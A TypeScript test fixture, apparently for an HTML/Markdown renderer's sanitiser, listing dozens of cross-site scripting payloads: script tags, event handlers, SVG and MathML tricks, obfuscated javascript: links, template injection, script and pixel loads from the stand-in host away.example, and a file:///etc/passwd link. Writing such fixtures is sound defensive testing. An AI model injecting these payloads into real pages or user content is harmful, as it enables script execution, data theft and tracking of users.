/** A text that would run script, load something or make elements if a page took it for more than text. */
export interface HostileText {
  readonly name: string
  readonly text: string
  /** What a reader must still see of it. */
  readonly shows: readonly string[]
}

/** Script that leaves a mark, wherever and however it is run. */
const RUN = 'window.hasRun=1;alert(1)'
/** Nobody answers there; asking is enough to be found out. */
const AWAY = 'https://away.example'

/** Shown just as they were sent. */
function verbatim(texts: Readonly<Record<string, string>>): HostileText[] {
  return Object.entries(texts).map(([name, text]) => ({ name, text, shows: [text] }))
}

const html = verbatim({
  'a script': `<script>${RUN}</script>`,
  'a script from elsewhere': `<script src="${AWAY}/x.js"></script>`,
  'a script in capitals with a slash': `<SCRIPT/x>${RUN}</SCRIPT>`,
  'a script module within words': `Hello <script type="module">${RUN}</script> there`,
  'a script that is cut up': `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  'an image that fails': `<img src=x onerror="${RUN}">`,
  'an image without spaces': `<img/src=x/onerror=${RUN}>`,
  'an image that is not closed': `<img src=x onerror=${RUN}//`,
  'an image with a source set': `<img srcset="${AWAY}/x.png 1x" onload="${RUN}">`,
  'an svg that loads': `<svg onload="${RUN}"></svg>`,
  'an svg with script': `<svg><script>${RUN}</script></svg>`,
  'an svg that moves': `<svg><animate onbegin="${RUN}" attributeName=x dur=1s></animate></svg>`,
  'an svg that uses': `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"></use></svg>`,
  'an svg link': `<svg><a xlink:href="javascript:${RUN}"><text y=20>click me</text></a></svg>`,
  'an iframe with a document': `<iframe srcdoc="<script>parent.hasRun=1</script>"></iframe>`,
  'an iframe that runs': `<iframe src="javascript:parent.hasRun=1"></iframe>`,
  'an iframe from elsewhere': `<iframe src="${AWAY}/"></iframe>`,
  'an object': `<object data="javascript:${RUN}"></object>`,
  'an embed': `<embed src="data:text/html,<script>${RUN}</script>">`,
  'a link': `<a href="javascript:${RUN}">click me</a>`,
  'a link that is hovered over': `<a href="#" onmouseover="${RUN}">click me</a>`,
  'a focus': `<input autofocus onfocus="${RUN}">`,
  'a form': `<form action="javascript:${RUN}"><button>click me</button></form>`,
  'a button with a form': `<button form=x formaction="javascript:${RUN}">click me</button>`,
  'a body that loads': `<body onload="${RUN}">`,
  'details that open': `<details open ontoggle="${RUN}"><summary>click me</summary></details>`,
  'a video that fails': `<video><source onerror="${RUN}"></video>`,
  'an audio that fails': `<audio src="${AWAY}/x.mp3" onerror="${RUN}"></audio>`,
  'a marquee that starts': `<marquee onstart="${RUN}">x</marquee>`,
  'a style': `<style>@import "${AWAY}/x.css"; body { display: none }</style>`,
  'a style that ends an animation': `<style>@keyframes x{}</style><b style="animation-name:x" onanimationend="${RUN}">b</b>`,
  'a link to a style': `<link rel=stylesheet href="${AWAY}/x.css">`,
  'a refresh': `<meta http-equiv="refresh" content="0;url=${AWAY}/">`,
  'a base': `<base href="${AWAY}/">`,
  'maths with a link': `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">click me</maction></math>`,
  'maths that changes its mind': `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></table></mtext></math>`,
  'a template with script': `<template><script>${RUN}</script></template>`,
  'a noscript': `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  'a comment that ends early': `<!--><img src=x onerror="${RUN}">-->`,
  'a conditional comment': `<!--[if true]><script>${RUN}</script><![endif]-->`,
  'a section of characters': `<![CDATA[<script>${RUN}</script>]]>`,
  'an instruction': `<?xml-stylesheet href="javascript:${RUN}"?>`,
  'a text area that ends': `</textarea><script>${RUN}</script>`,
  'a title that ends': `</title></head><body><img src=x onerror="${RUN}">`,
  'an element of its own': `<x-x onclick="${RUN}" tabindex=1 style="position:fixed;inset:0">click me</x-x>`,
  'an anchor without end': `<a href="javascript:${RUN}" x="`
})

/** Links that are none: the words and the address are read, and neither leads anywhere. */
const links: HostileText[] = [
  ['javascript', `[click me](javascript:${RUN})`, ['click me', `javascript:${RUN}`]],
  ['javascript in mixed case', `[click me](JaVaScRiPt:${RUN})`, ['click me', `JaVaScRiPt:${RUN}`]],
  ['javascript by decimal entities', '[click me](&#106;&#97;vascript&#58;alert(1))', ['javascript:alert(1)']],
  ['javascript by hexadecimal entities', '[click me](&#x6A;avascript:alert(1))', ['javascript:alert(1)']],
  [
    'javascript with an entity for the colon',
    '[click me](javascript&colon;alert(1))',
    ['javascript:alert(1)']
  ],
  [
    'javascript with a tab by an entity',
    '[click me](java&Tab;script:alert(1))',
    ['click me', 'script:alert(1)']
  ],
  [
    'javascript with a line break by an entity',
    '[click me](java&NewLine;script:alert(1))',
    ['click me', 'script:alert(1)']
  ],
  [
    'javascript after a control character',
    '[click me](&#1;javascript:alert(1))',
    ['click me', 'javascript:alert(1)']
  ],
  ['javascript in pointed brackets', `[click me](<javascript:${RUN}>)`, ['click me', `javascript:${RUN}`]],
  [
    'javascript with a host',
    '[click me](javascript://away.example/%0Aalert(1))',
    ['click me', 'javascript://away.example/']
  ],
  ['javascript by percent signs', '[click me](java%73cript:alert(1))', ['click me', 'javascript:alert(1)']],
  ['javascript as an autolink', '<javascript:alert(1)>', ['javascript:alert(1)']],
  ['javascript by reference', `[click me][x]\n\n[x]: javascript:${RUN}`, ['click me', `javascript:${RUN}`]],
  ['javascript by the shortest reference', '[x]\n\n[x]: javascript:alert(1)', ['javascript:alert(1)']],
  [
    'javascript with a title',
    '[click me](javascript:alert(1) "onmouseover=alert(1)")',
    ['click me', 'javascript:alert(1)']
  ],
  [
    'javascript around an image',
    `[![click me](${AWAY}/x.png)](javascript:alert(1))`,
    ['click me', `${AWAY}/x.png`]
  ],
  ['vbscript', '[click me](vbscript:msgbox(1))', ['click me', 'vbscript:msgbox(1)']],
  ['data', '[click me](data:text/html,<script>alert(1)</script>)', ['click me', 'data:text/html,']],
  [
    'data in base64',
    '[click me](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    ['click me', 'data:text/html;base64,']
  ],
  ['blob', '[click me](blob:https://away.example/x)', ['click me', 'blob:https://away.example/x']],
  ['file', '[click me](file:///etc/passwd)', ['click me', 'file:///etc/passwd']],
  ['another host without scheme', '[click me](//away.example/x)', ['click me', '//away.example/x']],
  ['a place in the page', '[click me](/keys?x=1)', ['click me', '/keys?x=1']],
  [
    'an attribute that is broken out of',
    '[click me](https://example.org/"onmouseover="alert(1))',
    ['click me']
  ],
  ['a table', '| a |\n|---|\n| [click me](javascript:alert(1)) |', ['click me', 'javascript:alert(1)']],
  ['a footnote', `x[^1]\n\n[^1]: [click me](javascript:${RUN})`, ['click me', `javascript:${RUN}`]]
].map(([name, text, shows]) => ({ name: `a link: ${name}`, text: text as string, shows: shows as string[] }))

const images: HostileText[] = [
  ['from elsewhere', `![a plot](${AWAY}/x.png)`, ['a plot', `${AWAY}/x.png`]],
  ['that runs', `![a plot](javascript:${RUN})`, ['a plot', `javascript:${RUN}`]],
  ['that is data', '![a plot](data:image/svg+xml,<svg%20onload=alert(1)>)', ['a plot', 'data:image/svg+xml']],
  ['that breaks out of its words', `!["onerror="alert(1)](${AWAY}/x)`, ['"onerror="alert(1)', `${AWAY}/x`]],
  ['without words', `![](${AWAY}/pixel.gif?who=ann)`, [`${AWAY}/pixel.gif?who=ann`]]
].map(([name, text, shows]) => ({
  name: `an image: ${name}`,
  text: text as string,
  shows: shows as string[]
}))

/** Not read again by anybody: neither as entities, nor as a template, nor as code. */
const other: HostileText[] = [
  { name: 'entities', text: '&lt;script&gt;alert(1)&lt;/script&gt;', shows: ['<script>alert(1)</script>'] },
  ...verbatim({
    'template-like text': `{{constructor.constructor('alert(1)')()}} \${alert(1)} <%= alert(1) %> {%raw%}`,
    'a template of a flow': '{order_id} {$region} {{x}}'
  }),
  {
    name: 'a fence with a language that is HTML',
    text: '```"><script>alert(1)</script>\nx\n```',
    shows: ['x']
  },
  { name: 'HTML in code', text: `\`<img src=x onerror=${RUN}>\``, shows: [`<img src=x onerror=${RUN}>`] },
  {
    name: 'JSON with HTML',
    text: `{"html": "<img src=x onerror=${RUN}>"}`,
    shows: [`<img src=x onerror=${RUN}>`]
  }
]

export const HOSTILE_TEXTS: readonly HostileText[] = [...html, ...links, ...images, ...other]
